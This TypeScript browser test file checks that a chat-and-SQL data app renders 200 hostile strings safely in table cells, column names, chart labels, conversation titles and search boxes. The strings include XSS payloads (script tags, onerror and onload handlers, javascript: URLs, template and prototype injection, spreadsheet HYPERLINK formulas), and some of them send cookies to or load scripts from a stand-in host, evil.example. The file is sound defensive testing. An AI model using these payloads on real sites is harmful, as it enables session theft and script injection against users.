/** Two hundred hostile strings as cells, column names, values and questions: none runs, none leaves the house. */
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type House, hasBrowser, openHouse, settled } from './house.ts'

/** What a payload does when it runs. */
const DEEDS = [
  'alert(1)',
  'hit()',
  "fetch('http://evil.example/'+document.cookie)",
  "import('http://evil.example/x.js')",
  "location='http://evil.example/'",
]

/** Ways to get a deed run: markup, handlers, addresses, styles, Markdown, templates, chart expressions, prototypes. */
const WAYS: ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `<ScRiPt>${deed}</sCrIpT>`,
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img src="http://evil.example/a.png" onload="${deed}">`,
  (deed) => `"><img src=x onerror=${deed}//`,
  (deed) => `'><svg/onload=${deed}>`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/></svg>`,
  (deed) => `<math><mtext><img src=x onerror="${deed}"></mtext></math>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<embed src="http://evil.example/x.swf"><!--${deed}-->`,
  (deed) => `<link rel=stylesheet href="http://evil.example/x.css"><!--${deed}-->`,
  (deed) => `<style>@import "http://evil.example/x.css";/*${deed}*/</style>`,
  (deed) => `<div style="background:url(http://evil.example/x.png)" onmouseover="${deed}">x</div>`,
  (deed) => `<meta http-equiv=refresh content="0;url=http://evil.example/?${deed}">`,
  (deed) => `<base href="http://evil.example/"><!--${deed}-->`,
  (deed) => `<form action="http://evil.example/"><input autofocus onfocus="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">x</details>`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<a href="javascript:${deed}">click</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `[click](javascript:${deed})`,
  (deed) => `![x](http://evil.example/x.png "${deed}")`,
  (deed) => `![x](x "onerror=${deed}")`,
  (deed) => `{{constructor.constructor('${deed}')()}}`,
  (deed) => `\${${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `datum.x; ${deed}`,
  (deed) => `{"signal":"${deed.replaceAll('"', "'")}"}`,
  (deed) => `__proto__ ${deed}`,
  (deed) => `constructor" onclick="${deed}`,
  (deed) => `\u202e<img src=x onerror=${deed}>\u0000`,
  (deed) => `=HYPERLINK("http://evil.example/?${deed}")`,
]

const HOSTILE = WAYS.flatMap((way) => DEEDS.map((deed) => way(deed)))

const csvCell = (text: string): string => `"${text.replaceAll('"', '""').replaceAll('\u0000', '')}"`

describe.skipIf(!hasBrowser)('hostile strings', () => {
  let house: House
  let page: Page
  let problems: string[]
  const hits: string[] = []

  beforeAll(async () => {
    house = await openHouse(async (folder) => {
      const header = ['id', 'amount', 'note', ...WAYS.map((way) => way('hit()'))]
      const rows = HOSTILE.map((text, i) => [String(i), String((i * 37) % 100), text, ...WAYS.map(() => text)])
      const sources = join(folder, 'hostile.csv')
      await writeFile(sources, [header, ...rows].map((row) => row.map(csvCell).join(',')).join('\n'))
      return { sources }
    })
    ;({ page, problems } = await house.newPage())
    await page.exposeFunction('hit', () => void hits.push('hit'))
    await page.goto(house.url)
    await page.getByRole('textbox', { name: 'Your question' }).waitFor()
  })
  afterAll(() => house?.close())

  /** Elements that only a payload can have made. */
  const foreign = () =>
    page.evaluate(
      () =>
        document.querySelectorAll(
          'img, iframe, object, embed, video, base, math, form[action], meta[http-equiv], body script, a[href^="javascript:"]',
        ).length,
    )

  async function nothingHappened(): Promise<void> {
    expect(await foreign()).toBe(0)
    expect(hits).toEqual([])
    expect(problems).toEqual([])
  }

  async function runSql(sql: string, question: string): Promise<void> {
    const id = await page.evaluate(
      async (body) => {
        const response = await fetch('api/chat/sql?wait=true', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body),
        })
        return ((await response.json()) as { session_id: string }).session_id
      },
      { sql, question },
    )
    await page.goto(`${house.url}/#/c/${id}`)
    await page.reload()
    await settled(page)
  }

  it('are two hundred', () => {
    expect(new Set(HOSTILE).size).toBe(200)
  })

  it('as cells and column names of a table', async () => {
    await runSql('select * from hostile', 'everything')
    const table = page.locator('.table-scroll')
    await table.waitFor()
    expect(await table.innerText()).toContain('<script>')
    for (let top = 0; top < 12_000; top += 600) await table.evaluate((element, y) => element.scrollTo(4000, y), top)
    await nothingHappened()
  })

  it('as names, labels and tooltips of charts', async () => {
    for (const part of [0, 1, 2, 3]) {
      const where = `where id between ${part * 50} and ${part * 50 + 49}`
      await runSql(`select note, sum(amount) as total from hostile ${where} group by note order by 2 desc`, 'chart')
      const chart = page.locator('svg.marks')
      await chart.waitFor()
      const box = await chart.boundingBox()
      for (let step = 0; step < 12; step += 1)
        await page.mouse.move((box?.x ?? 0) + (box?.width ?? 0) / 2, (box?.y ?? 0) + 20 + step * 24)
      await nothingHappened()
    }
  })

  it('as questions, titles and pinned answers', async () => {
    await page.evaluate(async (questions) => {
      for (const question of questions) {
        const response = await fetch('api/chat/query?wait=true', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ question }),
        })
        const { message_id } = (await response.json()) as { message_id?: string }
        if (message_id !== undefined) await fetch(`api/chat/pins/${message_id}`, { method: 'POST' })
      }
    }, HOSTILE)
    await page.goto(house.url)
    await page.reload()
    const list = page.getByRole('navigation', { name: 'Conversations' })
    await list.getByText('<script>').first().waitFor()
    const more = page.getByRole('button', { name: 'Show earlier conversations' })
    for (let shown = 50; shown < 200; shown += 50) {
      await more.click()
      await page.waitForFunction((n) => document.querySelectorAll('.conversation').length > n, shown + 50)
    }
    for (let at = 0; at < 200; at += 20) {
      await list.locator('li.conversation .conversation-open').nth(at).click()
      await settled(page)
    }
    await page.keyboard.press('Control+k')
    await page.keyboard.type('script')
    await page.getByRole('option').first().waitFor()
    await nothingHappened()
  })

  it('as a question typed in, in an address, and as a link', async () => {
    for (const text of WAYS.map((way) => way('hit()')).slice(0, 12)) {
      await page.goto(`${house.url}/#/ask/${encodeURIComponent(text)}`)
      await page.reload()
      const box = page.getByRole('textbox', { name: 'Your question' })
      await box.waitFor()
      expect(await box.inputValue()).toBe(text)
      await box.press('Enter')
      await settled(page)
    }
    await nothingHappened()
  })

  it('as columns, values and searches of the data page', async () => {
    await page.goto(`${house.url}/#/data/hostile/hostile`)
    await page.reload()
    await page.locator('.column-table').first().waitFor()
    for (const text of WAYS.map((way) => way('hit()'))) {
      await page.getByRole('searchbox').fill(text.slice(0, 190))
      await page.waitForTimeout(30)
    }
    await page.getByRole('searchbox').fill('script')
    await page.getByRole('region', { name: 'Found' }).getByRole('link').first().waitFor()
    await nothingHappened()
  })
})
